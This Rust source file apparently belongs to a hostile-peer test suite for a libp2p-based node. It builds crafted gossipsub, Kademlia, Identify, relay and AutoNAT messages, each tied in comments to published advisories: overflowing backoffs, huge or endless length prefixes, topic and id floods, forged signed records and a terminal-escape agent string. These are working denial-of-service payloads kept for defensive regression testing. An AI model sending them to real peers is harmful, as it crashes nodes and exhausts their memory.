//! Messages of libp2p's protocols that made implementations panic or hold memory without bound.

use libp2p::{PeerId, StreamProtocol, core::PeerRecord, identity::Keypair};

use crate::hostile::{
    network,
    pb::{field, number, prefixed, varint},
};

/// Bytes of one gossip RPC: below what the victim reads.
const RPC: usize = 30_000;

/// A stream's protocol, and what is said on it.
pub struct Case {
    pub name: &'static str,
    pub protocol: StreamProtocol,
    pub messages: Vec<Vec<u8>>,
}

fn topics() -> Vec<String> {
    (0..16).map(|n| format!("/quelea/{}/announce/{n}", network().short())).collect()
}

fn strange(count: usize) -> Vec<String> {
    (0..count).map(|n| format!("/strange/{n}/{}", rand::random::<u64>())).collect()
}

/// RPCs that hold these fields, as many to one as fit.
fn rpcs(fields: impl IntoIterator<Item = Vec<u8>>, wrap: impl Fn(&[u8]) -> Vec<u8>) -> Vec<Vec<u8>> {
    let mut rpcs = vec![Vec::new()];
    for field in fields {
        if rpcs.last().unwrap().len() + field.len() > RPC {
            rpcs.push(Vec::new());
        }
        rpcs.last_mut().unwrap().extend(field);
    }
    rpcs.iter().map(|rpc| prefixed(&wrap(rpc))).collect()
}

fn control(fields: impl IntoIterator<Item = Vec<u8>>) -> Vec<Vec<u8>> {
    rpcs(fields, |control| field(3, control))
}

fn subscribe(topic: &str) -> Vec<u8> {
    field(1, &[number(1, 1), field(2, topic.as_bytes())].concat())
}

fn graft(topic: &str) -> Vec<u8> {
    field(3, &field(1, topic.as_bytes()))
}

fn prune(topic: &str, backoff: u64) -> Vec<u8> {
    let stranger = [field(1, &PeerId::random().to_bytes()), field(2, &[0xff; 64])].concat();
    field(4, &[field(1, topic.as_bytes()), field(2, &stranger), number(3, backoff)].concat())
}

fn gossip(name: &'static str, messages: Vec<Vec<u8>>) -> Case {
    Case { name, protocol: network().protocol("gossip", 1), messages }
}

pub fn gossipsub() -> Vec<Case> {
    let ids = |count: usize| (0..count).flat_map(|_| field(2, &rand::random::<[u8; 20]>())).collect::<Vec<u8>>();
    let join: Vec<Vec<u8>> = rpcs(topics().iter().map(|topic| subscribe(topic)), <[u8]>::to_vec);
    let grafts = control(topics().iter().map(|topic| graft(topic)));
    let prunes = |backoff: u64| {
        let prunes = control(topics().iter().map(|topic| prune(topic, backoff)));
        [join.clone(), grafts.clone(), prunes].concat()
    };
    vec![
        // GHSA-gc42-3jg7-rxr2; GHSA-xqmp-fxgv-xvq5, whose panic came at a later heartbeat.
        gossip("PRUNE with a backoff of u64::MAX", prunes(u64::MAX)),
        gossip("PRUNE with a backoff near i64::MAX", prunes(9_223_372_036_854_674_580)),
        gossip("PRUNE with a backoff of i64::MAX", prunes(i64::MAX.unsigned_abs())),
        // GHSA-g3g5-x568-qvqx and GHSA-vrx6-jcp8-vm7m: topics that the victim never joined.
        gossip("GRAFT for ten thousand strange topics", control(strange(10_000).iter().map(|topic| graft(topic)))),
        gossip("PRUNE for ten thousand strange topics", control(strange(10_000).iter().map(|topic| prune(topic, 60)))),
        // GHSA-4f8r-922h-2vgv.
        gossip("SUBSCRIBE to ten thousand topics", rpcs(strange(10_000).iter().map(|t| subscribe(t)), <[u8]>::to_vec)),
        gossip("GRAFT again and again", (0..200).flat_map(|_| [join.clone(), grafts.clone()].concat()).collect()),
        gossip("IHAVE of ids that nobody has", {
            let of_topic = |topic: &String| field(1, &[field(1, topic.as_bytes()), ids(60)].concat());
            (0..50).flat_map(|_| control(topics().iter().map(of_topic))).collect()
        }),
        gossip("IWANT of ids that nobody has", {
            (0..200)
                .flat_map(|_| control([field(2, &(0..700).flat_map(|_| field(1, &[7; 20])).collect::<Vec<u8>>())]))
                .collect()
        }),
        gossip("IDONTWANT without end", {
            let ids = || (0..700).flat_map(|_| field(1, &rand::random::<[u8; 20]>())).collect::<Vec<u8>>();
            (0..200).flat_map(|_| control([field(5, &ids())])).collect()
        }),
        gossip("a length of 2^63", vec![varint(1 << 63)]),
        gossip("a length that never ends", vec![vec![0xff; 64]]),
        gossip(
            "lengths inside that point out",
            vec![prefixed(&[0x1a, 0xff, 0xff, 0xff, 0xff, 0x0f]), prefixed(&[0x0a, 0x80])],
        ),
    ]
}

pub fn kademlia() -> Vec<Case> {
    let kad = |name, messages| Case { name, protocol: network().protocol("kad", 1), messages };
    let kind = |n: u64| number(1, n);
    let record = |key: &[u8], value: &[u8], ttl: u64| {
        [field(1, key), field(2, value), field(5, b"\xff\xff"), field(0x2a, &[]), number(6, ttl)].concat()
    };
    let put = |key: &[u8], value: &[u8], ttl: u64| {
        prefixed(&[kind(0), field(2, key), field(3, &record(key, value, ttl))].concat())
    };
    let provider = |id: &[u8], connection: u64| [field(1, id), field(2, &[0xff; 40]), number(3, connection)].concat();
    let add = |provider: &[u8]| prefixed(&[kind(2), field(2, b"key"), field(9, provider)].concat());
    vec![
        kad("a message of 10 MiB", vec![[varint(10 << 20), vec![0; 1 << 20]].concat()]),
        kad("a length of 2^63", vec![varint(1 << 63)]),
        kad("a length that never ends", vec![vec![0xff; 64]]),
        kad(
            "values that live for ever",
            vec![put(b"/user/a", b"x", u64::MAX), put(b"/user/b", b"x", u64::from(u32::MAX))],
        ),
        kad("empty keys and values", vec![put(b"", b"", 0), prefixed(&[kind(4), field(2, b"")].concat())]),
        kad(
            "a key of 16 KiB",
            vec![put(&[7; 16_000], b"x", 60), prefixed(&[kind(4), field(2, &[7; 16_000])].concat())],
        ),
        kad("types and numbers at their ends", {
            (0..9)
                .chain([u64::MAX])
                .map(|n| prefixed(&[kind(n), number(10, u64::MAX), field(2, b"k")].concat()))
                .collect()
        }),
        kad("providers that are nobody", {
            let stranger = PeerId::random().to_bytes();
            let ids = [&b""[..], &[0xff; 64], stranger.as_slice()];
            ids.iter().flat_map(|id| [0, 3, u64::MAX].map(|n| add(&provider(id, n)))).collect()
        }),
    ]
}

/// Identify, pushed: keys and records that are somebody else's, and too many of everything.
pub fn identify() -> Vec<Case> {
    let push = |name, message: Vec<u8>| Case {
        name,
        protocol: StreamProtocol::new("/ipfs/id/push/1.0.0"),
        messages: vec![prefixed(&message)],
    };
    let other = Keypair::generate_ed25519();
    let key = other.public().encode_protobuf();
    let addr: libp2p::Multiaddr = "/ip4/127.0.0.1/tcp/1".parse().unwrap();
    let record = PeerRecord::new(&other, vec![addr.clone()]).unwrap().into_signed_envelope().into_protobuf_encoding();
    let mut forged = record.clone();
    *forged.last_mut().unwrap() ^= 1;
    let many =
        |number: u8, bytes: &[u8], count: usize| (0..count).flat_map(|_| field(number, bytes)).collect::<Vec<u8>>();
    vec![
        // RUSTSEC-2022-0009 and RUSTSEC-2019-0004.
        push("somebody else's key", [field(1, &key), field(2, &addr.to_vec()), field(8, &record)].concat()),
        push("a forged record", [field(1, &key), field(8, &forged)].concat()),
        push("a record of nonsense", [field(1, &[0xff; 36]), field(8, &[0xff; 200])].concat()),
        push("addresses of nonsense", many(2, &[0xff; 20], 100)),
        push("two hundred addresses", many(2, &addr.to_vec(), 200)),
        push("a thousand protocols", many(3, b"/x", 1000)),
        push("a message of a megabyte", vec![0; 1 << 20]),
        push("an agent that clears screens", field(6, b"\x1b[2J\x1b]0;owned\x07\xff\xfe")),
    ]
}

/// What a relay is asked on.
pub const HOP: StreamProtocol = StreamProtocol::new("/libp2p/circuit/relay/0.2.0/hop");
/// What a relay hands circuits over on.
const STOP: StreamProtocol = StreamProtocol::new("/libp2p/circuit/relay/0.2.0/stop");

/// Relay: reservations and circuits with nobody behind them (relay #6472), and circuits that claim to come in.
pub fn relay() -> Vec<Case> {
    let case = |name, protocol: StreamProtocol, messages: &[Vec<u8>]| Case {
        name,
        protocol,
        messages: messages.iter().map(|message| prefixed(message)).collect(),
    };
    let peer = |id: &[u8]| field(2, &[field(1, id), field(2, &[0xff; 30])].concat());
    let stranger = PeerId::random().to_bytes();
    let limit = field(4, &[number(1, u64::from(u32::MAX)), number(2, u64::MAX)].concat());
    vec![
        case("a reservation", HOP, &[number(1, 0)]),
        case("a circuit to a stranger", HOP, &[[number(1, 1), peer(&stranger)].concat()]),
        case("a circuit to nobody", HOP, &[[number(1, 1), peer(&[0xff; 40])].concat()]),
        case("a status, and a type of no meaning", HOP, &[number(1, 2), number(1, u64::MAX)]),
        case("a circuit without limits comes in", STOP, &[[number(1, 0), peer(&stranger), limit].concat()]),
        case("a status comes in", STOP, &[[number(1, 1), number(5, u64::MAX)].concat()]),
    ]
}

/// A circuit to `peer`, which is connected to the relay and has reserved nothing (relay #6472).
pub fn circuit_to(peer: &PeerId) -> Case {
    let target = field(2, &field(1, &peer.to_bytes()));
    Case {
        name: "a circuit to a peer without a reservation",
        protocol: HOP,
        messages: vec![prefixed(&[number(1, 1), target].concat())],
    }
}

/// AutoNAT: dial-backs to where one is not, in numbers.
pub fn autonat() -> Vec<Case> {
    let case = |name, message: Vec<u8>| Case {
        name,
        protocol: StreamProtocol::new("/libp2p/autonat/2/dial-request"),
        messages: vec![prefixed(&field(1, &message))],
    };
    let addr: libp2p::Multiaddr = "/ip4/127.0.0.1/tcp/22".parse().unwrap();
    let nonce = [0x11].into_iter().chain([0xff; 8]).collect::<Vec<u8>>();
    vec![
        case(
            "a hundred addresses of ours",
            [(0..100).flat_map(|_| field(1, &addr.to_vec())).collect(), nonce.clone()].concat(),
        ),
        case("addresses of nonsense", [field(1, &[0xff; 200]), field(1, &[]), nonce].concat()),
        case("no address at all", Vec::new()),
    ]
}
